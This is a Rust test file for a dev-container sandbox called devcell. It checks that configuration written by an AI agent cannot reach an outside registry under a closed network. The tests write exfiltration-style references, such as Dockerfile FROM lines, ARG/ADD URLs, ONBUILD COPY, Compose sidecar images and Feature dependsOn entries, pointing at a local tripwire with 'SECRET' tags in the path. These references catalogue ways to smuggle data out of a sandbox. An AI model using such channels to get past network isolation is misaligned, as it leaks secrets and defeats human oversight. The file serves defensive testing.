//! Hostile repositories: see `super`. Registry hosts as a channel out of a closed network
//! (attack K12, spec-note 0400): the holes the twenty-third attack found in the registry
//! judgement (`devcell build`, a Dockerfile's variables, `ONBUILD`, Compose, a local
//! Feature's `dependsOn`). Each test points the agent's reference at a tripwire listener on
//! 127.0.0.1 and asserts that devcell refuses with the `--allow registry:HOST` request and
//! that the listener saw no connection.

use std::process::Output;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::support::context::TestContext;
use crate::support::docker::BUSYBOX_IMAGE;
use crate::support::git::git;

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// A listener on 127.0.0.1 that counts the connections it is offered and closes each at once
/// (a builder that reaches it fails fast): its port and the count.
fn tripwire() -> (u16, Arc<AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(stream);
        }
    });
    (port, hits)
}

/// An isolated context whose workspace has `files` committed as the user's repository (the
/// committed side of the judgement), its containers and built images cleaned up.
fn committed_workspace(test: &str, files: &[(&str, &str)]) -> Option<TestContext> {
    let ctx = TestContext::busybox(test)?.isolated();
    let workspace = ctx.path().display().to_string();
    ctx.cleanup()
        .label(&format!("devcontainer.local_folder={workspace}"));
    ctx.remove_images_matching(&format!(
        "vsc-{}-*",
        ctx.path()
            .file_name()
            .unwrap()
            .to_string_lossy()
            .to_lowercase()
    ));
    for (path, content) in files {
        ctx.write(path, &content.replace("IMAGE", BUSYBOX_IMAGE));
    }
    git(ctx.path(), &["init", "-q"]);
    git(ctx.path(), &["add", "-A"]);
    git(
        ctx.path(),
        &["commit", "-q", "-m", "the user's configuration"],
    );
    Some(ctx)
}

/// A settings file choosing `network = "none"`, next to the workspace.
fn closed_settings(ctx: &TestContext) -> String {
    let path = ctx.tmp().join("closed.toml");
    std::fs::write(&path, "[security]\nnetwork = \"none\"\n").unwrap();
    path.display().to_string()
}

/// Asserts `out` failed naming `--allow registry:127.0.0.1:<port>`, and the tripwire saw
/// nothing.
fn assert_refused_unreached(out: &Output, port: u16, hits: &AtomicUsize) {
    let all = text(out);
    assert!(!out.status.success(), "{all}");
    let grant = format!("--allow registry:127.0.0.1:{port}");
    assert!(all.contains(&grant), "not refused with {grant}: {all}");
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "the registry was reached: {all}"
    );
}

/// N18: `devcell build` with `[security] network = "none"` never asked the registry
/// judgement that `up` asks, so a `FROM` the agent wrote into the working tree was pulled
/// from its registry. It is judged as `up` judges it: refused, nothing reached.
#[test]
fn build_under_a_closed_network_judges_the_registries_it_pulls_from() {
    let Some(ctx) = committed_workspace(
        "k12_build_judged",
        &[
            (
                ".devcontainer/devcontainer.json",
                r#"{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "nobody"}"#,
            ),
            (".devcontainer/Dockerfile", "FROM IMAGE\n"),
        ],
    ) else {
        return;
    };
    let (port, hits) = tripwire();
    ctx.write(
        ".devcontainer/Dockerfile",
        &format!("FROM 127.0.0.1:{port}/exfil/build:SECRET-build\n"),
    );
    let settings = closed_settings(&ctx);
    let out = ctx.output("build", &["--config-file", &settings]);
    assert_refused_unreached(&out, port, &hits);
}

/// N20: a Dockerfile's `ADD ${SRC}` was asked as `build_fetch=${SRC}`, so the user's grant of
/// it pinned no host, and the agent's `ARG SRC=<its URL>` was fetched under `--network none`.
/// The source is asked by the host it expands to: the grant of the variable's name no longer
/// covers it (the refusal names the host), and a standing grant holding a `$` is refused
/// outright. Nothing reaches the tripwire.
#[test]
fn an_add_source_in_a_variable_is_asked_by_its_host() {
    let Some(ctx) = committed_workspace(
        "k12_add_variable",
        &[
            (
                ".devcontainer/devcontainer.json",
                r#"{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "nobody"}"#,
            ),
            (
                ".devcontainer/Dockerfile",
                "FROM IMAGE\nARG SRC=./devcontainer.json\nADD ${SRC} /x\n",
            ),
        ],
    ) else {
        return;
    };
    let (port, hits) = tripwire();
    ctx.write(
        ".devcontainer/Dockerfile",
        &format!(
            "FROM {BUSYBOX_IMAGE}\nARG SRC=http://127.0.0.1:{port}/SECRET-argsrc\nADD ${{SRC}} /x\n"
        ),
    );
    // the grant of the variable's name, for this run: the host is asked
    let out = ctx.output(
        "up",
        &[
            "--network",
            "none",
            "--allow",
            "runtime-option:build_fetch=${SRC}",
        ],
    );
    let all = text(&out);
    assert!(!out.status.success(), "{all}");
    let grant = format!("--allow runtime-option:build_fetch=127.0.0.1:{port}");
    assert!(all.contains(&grant), "not refused with {grant}: {all}");
    assert_eq!(hits.load(Ordering::SeqCst), 0, "fetched: {all}");
    // the same grant standing in the settings file: refused as a grant
    let settings = ctx.tmp().join("standing.toml");
    std::fs::write(
        &settings,
        "[security]\nnetwork = \"none\"\nallow = [\"runtime-option:build_fetch=${SRC}\"]\n",
    )
    .unwrap();
    let out = ctx.output("up", &["--config-file", settings.to_str().unwrap()]);
    let all = text(&out);
    assert!(!out.status.success(), "{all}");
    assert!(
        all.contains("--allow runtime-option:build_fetch=${SRC}"),
        "the standing grant was not refused: {all}"
    );
    assert_eq!(hits.load(Ordering::SeqCst), 0, "fetched: {all}");
    assert!(ctx.containers().is_empty(), "created: {all}");
}

/// N16: `ONBUILD COPY --from=<image>` in the workspace Dockerfile is pulled when devcell builds
/// its own layers `FROM` the result: it was neither a registry request nor an `ONBUILD` one.
/// Now the image is judged with the build's (`registry:<host>`), and the trigger itself is
/// the build's `build_onbuild` request: refused before anything is built, nothing reached.
#[test]
fn an_onbuild_from_in_the_dockerfile_does_not_reach_a_new_registry() {
    let Some(ctx) = committed_workspace(
        "k12_onbuild_from",
        &[
            (
                ".devcontainer/devcontainer.json",
                r#"{"build": {"dockerfile": "Dockerfile"}}"#,
            ),
            (".devcontainer/Dockerfile", "FROM IMAGE\n"),
        ],
    ) else {
        return;
    };
    let (port, hits) = tripwire();
    ctx.write(
        ".devcontainer/Dockerfile",
        &format!(
            "FROM {BUSYBOX_IMAGE}\nONBUILD COPY --from=127.0.0.1:{port}/exfil/ob:SECRET-onbuild / /x\n"
        ),
    );
    let out = ctx.output("up", &["--network", "none"]);
    assert_refused_unreached(&out, port, &hits);
    let all = text(&out);
    assert!(
        all.contains("--allow runtime-option:build_onbuild=dockerfile"),
        "{all}"
    );
    assert!(ctx.containers().is_empty(), "created: {all}");
}

/// The devcontainer.json of a Compose configuration whose primary `app` mounts the
/// repository at `/workspace`, and its committed Compose file.
const COMPOSE_CONFIG: &str = r#"{"dockerComposeFile": "docker-compose.yml", "service": "app",
    "workspaceFolder": "/workspace"}"#;
const COMPOSE_FILE: &str = "services:\n  app:\n    image: IMAGE\n    command: [\"sleep\", \"100000\"]\n    volumes: [\"..:/workspace\"]\n";

/// N9: a Compose configuration contributed nothing to the registry judgement: a sidecar's
/// `image` (the secret in its tag) or a build's `dockerfile_inline` `FROM` the agent added to
/// the working tree's Compose file was pulled under `--network none`. Each is now
/// `registry:<host>`, refused before Compose pulls or builds anything; the committed project
/// still comes up with no flag.
#[test]
fn a_compose_service_the_agent_added_does_not_reach_a_new_registry() {
    let Some(ctx) = committed_workspace(
        "k12_compose_images",
        &[
            (".devcontainer/devcontainer.json", COMPOSE_CONFIG),
            (".devcontainer/docker-compose.yml", COMPOSE_FILE),
        ],
    ) else {
        return;
    };
    let ctx = ctx.delete_on_drop();
    let (port, hits) = tripwire();
    let committed = COMPOSE_FILE.replace("IMAGE", BUSYBOX_IMAGE);
    for added in [
        format!("  side:\n    image: 127.0.0.1:{port}/exfil/x:SECRET-k1\n"),
        format!(
            "  built:\n    build:\n      context: .\n      dockerfile_inline: \"FROM 127.0.0.1:{port}/exfil/cb:SECRET-composebuild\\n\"\n"
        ),
    ] {
        ctx.write(
            ".devcontainer/docker-compose.yml",
            &format!("{committed}{added}"),
        );
        let out = ctx.output("up", &["--network", "none"]);
        assert_refused_unreached(&out, port, &hits);
        assert!(ctx.containers().is_empty(), "created: {}", text(&out));
    }
    ctx.write(".devcontainer/docker-compose.yml", &committed);
    let out = ctx.output("up", &["--network", "none"]);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(hits.load(Ordering::SeqCst), 0);
}

/// N14: a local Feature's `devcontainer-feature.json` is workspace content; its `dependsOn`
/// (and a local `dependsOn`'s own) named Features devcell fetched under `--network none`
/// without a request, since the judgement read only devcontainer.json's `features`. The
/// hosts a local Feature names are judged as devcontainer.json's are: refused before any
/// Feature is resolved, nothing reached, directly and through a second local Feature.
#[test]
fn a_local_features_depends_on_does_not_reach_a_new_registry() {
    let feature = |id: &str, depends_on: &str| {
        format!(r#"{{"id": "{id}", "version": "1.0.0", "dependsOn": {depends_on}}}"#)
    };
    let Some(ctx) = committed_workspace(
        "k12_local_feature_depends_on",
        &[
            (
                ".devcontainer/devcontainer.json",
                r#"{"image": "IMAGE", "features": {"./myfeat": {}}}"#,
            ),
            (
                ".devcontainer/myfeat/devcontainer-feature.json",
                &feature("myfeat", "{}"),
            ),
            (".devcontainer/myfeat/install.sh", "#!/bin/sh\ntrue\n"),
        ],
    ) else {
        return;
    };
    let (port, hits) = tripwire();
    let secret = format!(r#"{{"127.0.0.1:{port}/exfil/f:secret-k4": {{}}}}"#);
    // the agent's edit: `myfeat` depends on a Feature on its registry
    ctx.write(
        ".devcontainer/myfeat/devcontainer-feature.json",
        &feature("myfeat", &secret),
    );
    let out = ctx.output("up", &["--network", "none"]);
    assert_refused_unreached(&out, port, &hits);
    assert!(text(&out).contains("Feature `myfeat`"), "{}", text(&out));
    // …and through a local Feature it adds, which `myfeat` depends on
    ctx.write(
        ".devcontainer/myfeat/devcontainer-feature.json",
        &feature("myfeat", r#"{"./helper": {}}"#),
    );
    ctx.write(
        ".devcontainer/helper/devcontainer-feature.json",
        &feature("helper", &secret),
    );
    ctx.write(".devcontainer/helper/install.sh", "#!/bin/sh\ntrue\n");
    let out = ctx.output("up", &["--network", "none"]);
    assert_refused_unreached(&out, port, &hits);
    assert!(ctx.containers().is_empty(), "created: {}", text(&out));
}
